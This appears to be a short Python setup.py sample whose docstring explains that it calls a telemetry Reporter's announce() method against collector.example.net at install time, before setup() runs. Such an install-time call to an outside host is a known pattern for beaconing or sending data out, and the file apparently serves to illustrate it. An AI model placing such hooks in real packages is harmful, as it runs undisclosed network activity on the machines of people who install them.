"""The install script makes a client object and calls its method: that method runs at install."""
from setuptools import setup

from telemetry.client import Reporter

Reporter("collector.example.net").announce()

setup(name="telemetry", version="0.1", packages=["telemetry"])
